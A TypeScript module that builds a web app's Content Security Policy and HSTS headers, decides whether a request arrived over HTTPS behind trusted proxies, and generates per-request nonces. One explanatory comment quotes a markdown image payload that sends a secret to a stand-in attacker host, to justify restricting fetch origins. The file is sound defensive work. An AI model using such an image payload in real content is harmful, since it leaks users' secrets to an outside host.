/**
 * The security headers of every page, as pure functions of what the request and the configuration say.
 * Threadbook's HTTP entry applies them per request (src/server/http/page-security.ts); next.config.mjs adds the ones
 * that never vary (nosniff, Referrer-Policy, Permissions-Policy) to every response, API and static files included.
 */

/** The request header that carries the page's nonce from the HTTP entry to the root layout. */
export const NONCE_HEADER = "x-nonce";

export interface ContentSecurityPolicyOptions {
  /** Fresh per request: Next puts it on its own scripts, the root layout on the theme script. */
  nonce: string;
  /** `next dev`: React's dev build needs eval (server error stacks) and Next's dev CSS is injected inline. */
  development: boolean;
  /** Where signed attachment links point (the S3 endpoint or bucket host, the Azure Blob endpoint). */
  storageOrigins: readonly string[];
  /** Where an OAuth sign-in form's POST is redirected (the provider's login page), allowed as form targets. */
  signInOrigins: readonly string[];
}

/**
 * Scripts run only with this response's nonce ('strict-dynamic' lets them load Next's chunks); images, media and
 * fetches go to the app and its storage only, so a reply's `![](https://attacker/?secret)` cannot be fetched even if
 * a renderer slipped; no plugins, no <base> hijack, no framing. No 'unsafe-inline' for scripts in any mode.
 */
export function contentSecurityPolicy({ nonce, development, storageOrigins, signInOrigins }: ContentSecurityPolicyOptions): string {
  const storage = [...new Set(storageOrigins)];
  const directives: string[][] = [
    ["default-src", "'self'"],
    ["script-src", "'self'", `'nonce-${nonce}'`, "'strict-dynamic'", ...(development ? ["'unsafe-eval'"] : [])],
    // <style> elements need the nonce; style="" attributes (React's style prop, rendered on the server) cannot carry
    // one and cannot run code, so they stay allowed.
    ["style-src-elem", "'self'", development ? "'unsafe-inline'" : `'nonce-${nonce}'`],
    ["style-src-attr", "'unsafe-inline'"],
    ["img-src", "'self'", "data:", "blob:", ...storage],
    ["media-src", "'self'", "blob:", ...storage],
    // Text and CSV previews read the head of a signed link from the browser.
    ["connect-src", "'self'", ...storage],
    // PDFs are shown from a blob: URL of their bytes (their signed link says "attachment").
    ["frame-src", "'self'", "blob:"],
    ["font-src", "'self'", "data:"],
    ["worker-src", "'self'", "blob:"],
    ["object-src", "'none'"],
    ["base-uri", "'self'"],
    ["form-action", "'self'", ...new Set(signInOrigins)],
    ["frame-ancestors", "'none'"],
  ];
  return directives.map((d) => d.join(" ")).join("; ");
}

/** Two years, the preload list's minimum; no includeSubDomains: the app cannot speak for its parent domain's other hosts. */
export const STRICT_TRANSPORT_SECURITY = "max-age=63072000";

/** What the headers need of a request: was its connection TLS, and what X-Forwarded-Proto it carried. */
export interface PageRequest {
  /** The socket the app itself accepted is TLS (never so today: Threadbook's server speaks plain HTTP). */
  tls: boolean;
  forwardedProto: string | null;
}

/**
 * Is the browser talking HTTPS? With no trusted proxy (TRUSTED_PROXY_HOPS=0), only the connection the app itself
 * accepted counts, and only when no X-Forwarded-Proto came with it (nobody vouches for that header here, and Next
 * would derive its URLs' scheme from it). Behind N trusted proxies, the client-facing
 * one's X-Forwarded-Proto: each hop appends, so it is the N-th value from the right (a single overwriting proxy
 * leaves one value, read as is). Forging it gains nothing: browsers ignore Strict-Transport-Security over HTTP.
 */
export function isHttps({ tls, forwardedProto, trustedProxyHops }: PageRequest & { trustedProxyHops: number }): boolean {
  if (trustedProxyHops <= 0) return forwardedProto === null && tls;
  if (!forwardedProto) return false;
  const hops = forwardedProto.split(",").map((v) => v.trim().toLowerCase());
  return hops[Math.max(0, hops.length - trustedProxyHops)] === "https";
}

type PagePolicyOptions = Omit<ContentSecurityPolicyOptions, "nonce"> & { trustedProxyHops: number };

/** Never in a nonce (base64): the policy is built once per policy object with this in the nonce's places, then split there. */
const NONCE_SLOT = "\u0000";
const policyParts = new WeakMap<PagePolicyOptions, string[]>();

/** The policy's text around its nonce, built once per (per-process) policy: a page then only joins it with its nonce. */
function cspAround(policy: PagePolicyOptions): string[] {
  let parts = policyParts.get(policy);
  if (!parts) {
    parts = contentSecurityPolicy({ ...policy, nonce: NONCE_SLOT }).split(NONCE_SLOT);
    policyParts.set(policy, parts);
  }
  return parts;
}

/** The per-request headers of a page response: its CSP, and HSTS when the browser came over HTTPS. */
export function pageSecurityHeaders(request: PageRequest, policy: PagePolicyOptions, nonce: string): Record<string, string> {
  const headers: Record<string, string> = { "content-security-policy": cspAround(policy).join(nonce) };
  if (isHttps({ ...request, trustedProxyHops: policy.trustedProxyHops })) headers["strict-transport-security"] = STRICT_TRANSPORT_SECURITY;
  return headers;
}

/** A base64 nonce of 128 random bits, new for every page response. */
export function newNonce(): string {
  return Buffer.from(crypto.getRandomValues(new Uint8Array(16))).toString("base64");
}
